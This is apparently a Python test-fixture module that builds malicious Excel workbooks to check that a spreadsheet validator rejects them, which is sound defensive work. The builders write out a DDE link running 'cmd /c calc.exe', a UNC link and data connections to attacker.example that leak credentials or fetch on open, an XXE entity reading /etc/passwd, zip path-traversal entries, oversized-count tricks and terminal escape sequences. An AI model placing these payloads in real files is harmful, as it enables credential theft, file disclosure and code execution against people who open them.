"""Hostile returned workbooks, made from a good one the way an attacker (or an unlucky tool)
would: each builder copies a real return and changes its archive or its XML.

Nothing here is a committed binary; `corpus()` lists every case with what validation must say
about it, for the tests to make and check one by one and all together.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from rai_sheets.model import FREE_KINDS, SELECT, Questionnaire

from .factory import rewrite_zip

Builder = Callable[[Path, Path, Questionnaire], Path]

TRANSITIONAL_TO_STRICT = {
    b"http://schemas.openxmlformats.org/spreadsheetml/2006/main": (
        b"http://purl.oclc.org/ooxml/spreadsheetml/main"
    ),
    b"http://schemas.openxmlformats.org/officeDocument/2006/relationships": (
        b"http://purl.oclc.org/ooxml/officeDocument/relationships"
    ),
    b"http://schemas.openxmlformats.org/drawingml/2006/main": (
        b"http://purl.oclc.org/ooxml/drawingml/main"
    ),
    b"http://schemas.openxmlformats.org/drawingml/2006/chart": (
        b"http://purl.oclc.org/ooxml/drawingml/chart"
    ),
    b"http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing": (
        b"http://purl.oclc.org/ooxml/drawingml/spreadsheetDrawing"
    ),
    b"http://schemas.openxmlformats.org/officeDocument/2006/custom-properties": (
        b"http://purl.oclc.org/ooxml/officeDocument/customProperties"
    ),
    b"http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes": (
        b"http://purl.oclc.org/ooxml/officeDocument/docPropsVTypes"
    ),
    b"http://schemas.openxmlformats.org/officeDocument/2006/extended-properties": (
        b"http://purl.oclc.org/ooxml/officeDocument/extendedProperties"
    ),
}


# -- finding cells in a real return ------------------------------------------------------------
def parts_of(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist()}


def sheet_part(parts: dict[str, bytes], sheet: str) -> str:
    workbook = parts["xl/workbook.xml"].decode("utf-8")
    rels = parts["xl/_rels/workbook.xml.rels"].decode("utf-8")
    rid = re.search(rf'<sheet name="{re.escape(sheet)}" sheetId="\d+" r:id="(rId\d+)"', workbook)
    assert rid, sheet
    target = re.search(rf'Id="{rid.group(1)}"[^>]*Target="([^"]+)"', rels) or re.search(
        rf'Target="([^"]+)"[^>]*Id="{rid.group(1)}"', rels
    )
    assert target, rid.group(1)
    return "xl/" + target.group(1)


def name_cell(parts: dict[str, bytes], name: str) -> tuple[str, str, str]:
    """(sheet, sheet part, A1) of a defined name in the workbook."""
    workbook = parts["xl/workbook.xml"].decode("utf-8")
    m = re.search(rf'<definedName name="{name}"[^>]*>\'?([^\'!<]+)\'?!\$([A-Z]+)\$(\d+)<', workbook)
    assert m, name
    return m.group(1), sheet_part(parts, m.group(1)), f"{m.group(2)}{m.group(3)}"


def free_text_input(qn: Questionnaire) -> str:
    """The first answer cell that takes free text (the content decides which it is)."""
    return next(n for n, (q, f) in qn.input_names.items() if f.kind in FREE_KINDS and not q.prefill)


def choice_input(qn: Questionnaire) -> str:
    """The first answer cell chosen from a dropdown."""
    return next(n for n, (q, f) in qn.input_names.items() if f.kind == SELECT and not q.prefill)


def set_cell(sheet_xml: bytes, a1: str, cell_xml: bytes) -> bytes:
    """The sheet with the cell at `a1` replaced by `cell_xml` (it must already exist)."""
    pattern = re.compile(rb'<c r="' + a1.encode() + rb'"(?:\s[^>]*?)?(?:/>|>.*?</c>)', re.S)
    assert pattern.search(sheet_xml), a1
    return pattern.sub(lambda _: cell_xml, sheet_xml, count=1)


def _edit(good: Path, dst: Path, part: str, change: Callable[[bytes], bytes]) -> Path:
    return rewrite_zip(good, dst, lambda n, d: change(d) if n == part else d)


def _with_parts(good: Path, dst: Path, extra: dict[str, bytes], rels_edit=None) -> Path:  # type: ignore[no-untyped-def]
    parts = parts_of(good)
    if rels_edit:
        for name, change in rels_edit.items():
            parts[name] = change(parts.get(name, b""))
    parts.update(extra)
    return _zip(dst, list(parts.items()))


def _zip(dst: Path, members: list[tuple[str, bytes]]) -> Path:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in members:
            zf.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), body)
    dst.write_bytes(buf.getvalue())
    return dst


# -- declared sizes ------------------------------------------------------------------------------
def _append_rows(sheet_xml: bytes, rows: bytes) -> bytes:
    return sheet_xml.replace(b"</sheetData>", rows + b"</sheetData>")


def huge_string_count(good: Path, dst: Path, qn: Questionnaire) -> Path:
    """31 KB that made calamine ask for 51 GB: a shared-strings table claiming 2**31 strings."""
    return _edit(
        good,
        dst,
        "xl/sharedStrings.xml",
        lambda d: re.sub(rb'uniqueCount="\d+"', b'uniqueCount="2147483647"', d, count=1),
    )


def stray_cell(column: str) -> Builder:
    """A single "x" typed at the bottom of the answer sheet, in `column`."""

    def build(good: Path, dst: Path, qn: Questionnaire) -> Path:
        parts = parts_of(good)
        _, part, _ = name_cell(parts, next(iter(qn.input_names)))
        far = f'<row r="1048576"><c r="{column}1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        return _edit(
            good, dst, part, lambda d: d.replace(b"</sheetData>", far.encode() + b"</sheetData>")
        )

    return build


def cells_without_references(good: Path, dst: Path, qn: Questionnaire) -> Path:
    """A last row far down whose cells carry no reference: placed by counting, as readers do."""
    parts = parts_of(good)
    _, part, _ = name_cell(parts, next(iter(qn.input_names)))
    far = b'<row r="1048576">' + b"<c><v>1</v></c>" * 60 + b"</row>"
    return _edit(good, dst, part, lambda d: _append_rows(d, far))


def name_points_far(good: Path, dst: Path, qn: Questionnaire) -> Path:
    """An answer's name moved to XFD1048576, with a value there: no box can hold it."""
    name = free_text_input(qn)
    parts = parts_of(good)
    _, part, _ = name_cell(parts, name)
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row>'
    parts[part] = _append_rows(parts[part], far)
    parts["xl/workbook.xml"] = re.sub(
        rb'(<definedName name="' + name.encode() + rb'"[^>]*>[^<]*!)\$[A-Z]+\$[0-9]+<',
        rb"\1$XFD$1048576<",
        parts["xl/workbook.xml"],
    )
    return _zip(dst, list(parts.items()))


def many_names(good: Path, dst: Path, qn: Questionnaire) -> Path:
    extra = b"".join(
        f"<definedName name=\"x{i}\">'Instructions'!$A$1</definedName>".encode()
        for i in range(30_000)
    )
    return _edit(
        good,
        dst,
        "xl/workbook.xml",
        lambda d: d.replace(b"</definedNames>", extra + b"</definedNames>"),
    )


# -- formulas and links --------------------------------------------------------------------------
def formula_in_answer(good: Path, dst: Path, qn: Questionnaire) -> Path:
    parts = parts_of(good)
    _, part, a1 = name_cell(parts, free_text_input(qn))
    cell = (
        f'<c r="{a1}" t="str"><f>HYPERLINK("http://evil.example/x","click me")</f>'
        f"<v>click me</v></c>"
    ).encode()
    return _edit(good, dst, part, lambda d: set_cell(d, a1, cell))


EXTERNAL_LINK_TYPE = (
    b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink"
)


def _external_link(
    good: Path, dst: Path, qn: Questionnaire, link_xml: bytes, link_rels: bytes, formula: str
) -> Path:
    parts = parts_of(good)
    _, part, a1 = name_cell(parts, free_text_input(qn))
    parts[part] = set_cell(parts[part], a1, f'<c r="{a1}"><f>{formula}</f><v>0</v></c>'.encode())
    parts["xl/externalLinks/externalLink1.xml"] = link_xml
    if link_rels:
        parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = link_rels
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="'
        + EXTERNAL_LINK_TYPE
        + b'" Target="externalLinks/externalLink1.xml"/></Relationships>',
    )
    return _zip(dst, list(parts.items()))


def dde_link(good: Path, dst: Path, qn: Questionnaire) -> Path:
    """An answer that starts a program when the workbook is opened: =cmd|'/c calc.exe'!A1."""
    link = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A1"/>'
        b"</ddeItems></ddeLink></externalLink>"
    )
    return _external_link(good, dst, qn, link, b"", "[1]!A1")


def unc_link(good: Path, dst: Path, qn: Questionnaire) -> Path:
    """An answer linked to a workbook on the attacker's share (which leaks credentials)."""
    link = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        b'<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
        b"</externalBook></externalLink>"
    )
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/externalLinkPath" Target="file:///\\\\attacker.example\\share\\x.xlsx" '
        b'TargetMode="External"/></Relationships>'
    )
    return _external_link(good, dst, qn, link, rels, "[1]Sheet1!$A$1")


def ole_object(good: Path, dst: Path, qn: Questionnaire) -> Path:
    return _with_parts(
        good, dst, {"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 60}
    )


def data_connection(good: Path, dst: Path, qn: Questionnaire) -> Path:
    connection = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<connection id="1" name="q" type="4" refreshOnLoad="1">'
        b'<webPr url="http://attacker.example/data"/></connection></connections>'
    )
    return _with_parts(good, dst, {"xl/connections.xml": connection})


def remote_image(good: Path, dst: Path, qn: Questionnaire) -> Path:
    """A picture fetched from the attacker's server when the workbook is opened."""
    rels = "xl/drawings/_rels/drawing1.xml.rels"

    def add(body: bytes) -> bytes:
        return body.replace(
            b"</Relationships>",
            b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/image" Target="http://attacker.example/pixel.png" '
            b'TargetMode="External"/></Relationships>',
        )

    return _with_parts(good, dst, {}, {rels: add})


# -- archive tricks ------------------------------------------------------------------------------
def duplicate_part(good: Path, dst: Path, qn: Questionnaire) -> Path:
    parts = parts_of(good)
    _, part, _ = name_cell(parts, next(iter(qn.input_names)))
    return _zip(dst, [*parts.items(), (part, parts[part])])


def encrypted_member(good: Path, dst: Path, qn: Questionnaire) -> Path:
    """A member flagged as zip-encrypted (bit 0 of its flags), in both of its headers."""
    data = bytearray(rewrite_zip(good, dst, lambda n, d: d).read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = zf.getinfo("xl/sharedStrings.xml")
    local = info.header_offset + 6
    data[local : local + 2] = struct.pack("<H", info.flag_bits | 1)
    central = bytes(data).rfind(b"PK\x01\x02", 0, len(data))
    while central != -1:
        name_len = struct.unpack("<H", data[central + 28 : central + 30])[0]
        if data[central + 46 : central + 46 + name_len] == b"xl/sharedStrings.xml":
            data[central + 8 : central + 10] = struct.pack("<H", info.flag_bits | 1)
            break
        central = bytes(data).rfind(b"PK\x01\x02", 0, central)
    dst.write_bytes(bytes(data))
    return dst


def climbing_path(good: Path, dst: Path, qn: Questionnaire) -> Path:
    return _zip(dst, [*parts_of(good).items(), ("xl/../../../evil.xml", b"<a/>")])


def absolute_path(good: Path, dst: Path, qn: Questionnaire) -> Path:
    return _zip(dst, [*parts_of(good).items(), ("/etc/evil.xml", b"<a/>")])


DOCTYPE = b'<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def late_doctype(good: Path, dst: Path, qn: Questionnaire) -> Path:
    """A DTD placed after the first 2 KB of a part, past where a quick look stops."""

    def change(d: bytes) -> bytes:
        head, rest = d.split(b"?>", 1)
        return head + b"?>" + b"<!--" + b" " * 4096 + b"-->" + DOCTYPE + rest

    return _edit(good, dst, "xl/sharedStrings.xml", change)


def utf16_doctype(good: Path, dst: Path, qn: Questionnaire) -> Path:
    """A part re-encoded as UTF-16, with a DTD that no byte search in ASCII would see."""

    def change(d: bytes) -> bytes:
        text = d.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
        head, rest = text.split("?>", 1)
        return (head + "?>" + DOCTYPE.decode() + rest).encode("utf-16")

    return _edit(good, dst, "xl/sharedStrings.xml", change)


# -- other spellings of a good workbook ----------------------------------------------------------
def strict_ooxml(good: Path, dst: Path, qn: Questionnaire) -> Path:
    """The same workbook as Excel's "Strict Open XML Spreadsheet" writes it: every namespace
    and relationship type in its Strict (purl.oclc.org) form, and the workbook marked so."""

    def change(name: str, body: bytes) -> bytes:
        if not name.endswith((".xml", ".rels")):
            return body
        for old, new in TRANSITIONAL_TO_STRICT.items():
            body = body.replace(old, new)
        if name == "xl/workbook.xml":
            body = body.replace(b"<workbook ", b'<workbook conformance="strict" ', 1)
        return body

    return rewrite_zip(good, dst, change)


def _control_characters_in(input_name: Callable[[Questionnaire], str]) -> Builder:
    """An answer that clears the coordinator's terminal when printed: ESC[2J, as Excel stores a
    control character in a string (_x001B_)."""

    def build(good: Path, dst: Path, qn: Questionnaire) -> Path:
        parts = parts_of(good)
        _, part, a1 = name_cell(parts, input_name(qn))
        text = "_x001B_[2J_x001B_[31mgone_x0007_"
        cell = f'<c r="{a1}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()
        return _edit(good, dst, part, lambda d: set_cell(d, a1, cell))

    return build


def prefixed(good: Path, dst: Path, qn: Questionnaire) -> Path:
    """The sheets as some libraries write them: every element with a namespace prefix, and a
    formula in an answer, which must be found all the same."""
    parts = parts_of(good)
    _, answer_part, a1 = name_cell(parts, free_text_input(qn))
    parts[answer_part] = set_cell(
        parts[answer_part], a1, f'<c r="{a1}"><f>1+1</f><v>2</v></c>'.encode()
    )
    for name in [n for n in parts if n.startswith("xl/worksheets/sheet")]:
        body = re.sub(rb"<(/?)([A-Za-z][\w]*)(?=[\s>/])", rb"<\1x:\2", parts[name])
        parts[name] = body.replace(b" xmlns=", b" xmlns:x=", 1)
    return _zip(dst, list(parts.items()))


def slow_to_read(good: Path, dst: Path, qn: Questionnaire) -> Path:
    """Several hundred thousand cells without references, which only the careful (slow)
    reading can place, and an answer without its reference too, so that the answers cannot be
    read without placing them all; made of random numbers so that it is no zip bomb."""
    import random

    rng = random.Random(5)
    parts = parts_of(good)
    _, part, a1 = name_cell(parts, next(iter(qn.input_names)))
    rows = b"".join(
        b'<row r="%d">' % (2000 + r)
        + b"".join(b"<c><v>%d</v></c>" % rng.randrange(10**9) for _ in range(20))
        + b"</row>"
        for r in range(40_000)
    )
    parts[part] = _append_rows(parts[part], rows).replace(b'<c r="%s"' % a1.encode(), b"<c", 1)
    return _zip(dst, list(parts.items()))


@dataclass(frozen=True)
class Case:
    name: str
    build: Builder
    status: str
    code: str = ""  # the first issue's code, when there is one
    answer: Callable[[Questionnaire], str] | None = None  # the input the issue points at


def corpus() -> list[Case]:
    """Every hostile case, with what validation says about it."""
    rejected, tll, fia = "rejected", "too-large-when-read", "formula-in-answer"
    return [
        Case("huge_string_count.xlsx", huge_string_count, rejected, tll),
        Case("stray_xfd.xlsx", stray_cell("XFD"), "accepted"),
        Case("stray_z.xlsx", stray_cell("Z"), "accepted"),
        Case("stray_h.xlsx", stray_cell("H"), "accepted"),
        Case("cells_without_references.xlsx", cells_without_references, "accepted"),
        Case("name_points_far.xlsx", name_points_far, rejected, tll),
        Case("many_names.xlsx", many_names, rejected, tll),
        Case(
            "formula_in_answer.xlsx",
            formula_in_answer,
            rejected,
            "formula-in-answer",
            free_text_input,
        ),
        Case("dde_link.xlsx", dde_link, rejected, "external-link"),
        Case("unc_link.xlsx", unc_link, rejected, "external-link"),
        Case("ole_object.xlsx", ole_object, rejected, "external-link"),
        Case("data_connection.xlsx", data_connection, rejected, "external-link"),
        Case("remote_image.xlsx", remote_image, rejected, "external-link"),
        Case("duplicate_part.xlsx", duplicate_part, rejected, "duplicate-part"),
        Case("encrypted_member.xlsx", encrypted_member, rejected, "encrypted-part"),
        Case("climbing_path.xlsx", climbing_path, rejected, "unsafe-path"),
        Case("absolute_path.xlsx", absolute_path, rejected, "unsafe-path"),
        Case("late_doctype.xlsx", late_doctype, rejected, "unsafe-xml"),
        Case("utf16_doctype.xlsx", utf16_doctype, rejected, "unsafe-xml"),
        Case("strict_ooxml.xlsx", strict_ooxml, "accepted"),
        Case("prefixed.xlsx", prefixed, rejected, fia, free_text_input),
        Case("control_text.xlsx", _control_characters_in(free_text_input), "accepted"),
        Case(
            "control_choice.xlsx",
            _control_characters_in(choice_input),
            rejected,
            "not-in-list",
            choice_input,
        ),
    ]
